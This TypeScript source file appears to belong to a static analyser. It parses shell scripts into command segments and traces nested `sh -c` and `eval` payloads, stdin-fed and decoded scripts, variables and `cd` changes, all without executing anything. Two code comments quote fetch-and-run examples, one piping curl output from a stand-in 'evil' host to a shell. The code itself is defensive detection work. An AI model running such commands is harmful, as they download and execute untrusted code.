/**
 * Reads one script (a `sh -c` payload, a here-string, a decoded stage) into segments — lexer.ts
 * tokenizes, builder.ts assembles — and follows what its commands run in turn: the payloads they give
 * to shells, the scripts fed to them, the variables they set and the directories they `cd` to. Never
 * executes anything; expands only the script's own plain variables; never throws.
 */
import { ListBuilder, type ListHost } from "./builder.js";
import { commandStart, commandWords, isShell, recycle, shellPayload } from "./commands.js";
import { stdinScript } from "./flow.js";
import { afterCd } from "./paths.js";
import type { Cursor } from "./quoting.js";
import {
  type CommandNames,
  type CommandSegment,
  exhaust,
  MAX_PAYLOAD_DEPTH,
  MAX_SCRIPT_CHARS,
  type SegmentBudget,
} from "./segment.js";
import { VARIABLE_NAME } from "./words.js";

/** Reads the payload `segment`'s words give a shell (`sh -c`, `su -c`, `eval`), if any, into `out`. */
export function expandPayload(
  segment: CommandSegment,
  out: CommandSegment[],
  budget: SegmentBudget,
  keep: CommandNames | undefined,
  variables?: ReadonlyMap<string, string>,
): void {
  const words = commandWords(segment.argv);
  const payload = shellPayload(words);
  if (payload === undefined || payload.length === 0) return;
  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
    exhaust(budget, "depth");
    return;
  }
  const parser = new Script(payload, segment.depth + 1, segment.cwd, budget, out, keep);
  parser.payloadOf = segment;
  if (variables !== undefined) for (const [name, value] of variables) parser.variables.set(name, value);
  // `sh -c 'curl $1 | sh' x http://evil/`: the words after a shell's payload are $0, $1, …
  if (isShell(words[0] ?? "")) {
    const at = words.lastIndexOf(payload);
    parser.positional = at === -1 ? [] : words.slice(at + 1, at + 1 + MAX_POSITIONAL);
    if (parser.positional.length === 0) parser.positional = [words[0]!];
  }
  parser.parseAll();
}

/** Reads the script `segment` is fed as code (see {@link stdinScript}), if any, into `out`. */
function expandStdinScript(
  segment: CommandSegment,
  out: CommandSegment[],
  budget: SegmentBudget,
  keep: CommandNames | undefined,
) {
  const found = stdinScript(segment);
  if (found === undefined || found.script.trim().length === 0) return;
  // The decoded words run where the substitution stands: in the command that holds it.
  const runner =
    found.encoding !== undefined && segment.substitutionOf !== undefined
      ? segment.substitutionOf.segment
      : segment;
  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
    exhaust(budget, "depth");
    return;
  }
  if (found.encoding !== undefined) runner.decodedStage = found.encoding;
  const parser = new Script(found.script, segment.depth + 1, segment.cwd, budget, out, keep);
  parser.payloadOf = runner;
  parser.parseAll();
}

/** Variables a script may set and later run: `a=curl; $a x | sh`. */
const MAX_VARIABLES = 256;
const MAX_VARIABLE_CHARS = 4096;
const DECLARATIONS = new Set(["export", "readonly", "declare", "typeset", "local"]);

/** Positional parameters kept for a payload ($0 … $99). */
const MAX_POSITIONAL = 100;

/** Records the plain assignments of a finished command (`a=curl`, `export b="-s x"`) in `variables`. */
function recordAssignments(
  segment: CommandSegment,
  variables: Map<string, string>,
  budget: SegmentBudget,
): void {
  const start = commandStart(segment.argv);
  const head = segment.argv[start];
  if (head !== undefined && !DECLARATIONS.has(head)) return;
  for (const word of segment.argv) {
    const name = VARIABLE_NAME.exec(word)?.[0];
    if (name === undefined || word[name.length] !== "=") continue;
    const value = word.slice(name.length + 1);
    if (value.length > MAX_VARIABLE_CHARS) {
      exhaust(budget, "variables");
      continue;
    }
    if (variables.size >= MAX_VARIABLES && !variables.has(name)) {
      exhaust(budget, "variables");
      continue;
    }
    variables.set(name, value);
  }
}

/** One script read into segments; `out` receives them in reading order. */
class Script implements ListHost {
  readonly cursor: Cursor;
  payloadOf: CommandSegment | undefined;
  readonly variables = new Map<string, string>();
  positional: string[] = [];

  constructor(
    source: string,
    readonly depth: number,
    public cwd: string | undefined,
    readonly budget: SegmentBudget,
    readonly out: CommandSegment[],
    private readonly keep: CommandNames | undefined,
  ) {
    const allowed = Math.max(0, Math.min(MAX_SCRIPT_CHARS, budget.chars));
    if (source.length > allowed) exhaust(budget, "characters");
    const text = source.length > allowed ? source.slice(0, allowed) : source;
    budget.chars -= text.length;
    this.cursor = { text, pos: 0 };
  }

  parseAll(): void {
    new ListBuilder(this, null, undefined, 0).run();
  }

  /** Follows what a finished simple command runs and sets: payloads, variables, `cd`; drops padding. */
  commandEnded(finished: CommandSegment, pipe: boolean): void {
    if (this.depth < MAX_PAYLOAD_DEPTH) {
      expandPayload(finished, this.out, this.budget, this.keep, this.variables);
      expandStdinScript(finished, this.out, this.budget, this.keep);
    } else if (shellPayload(commandWords(finished.argv)) !== undefined) exhaust(this.budget, "depth");
    recordAssignments(finished, this.variables, this.budget);
    this.cwd = afterCd(finished, this.cwd);
    if (!pipe && this.keep !== undefined) recycle(this.out, finished, this.budget, this.keep);
  }
}
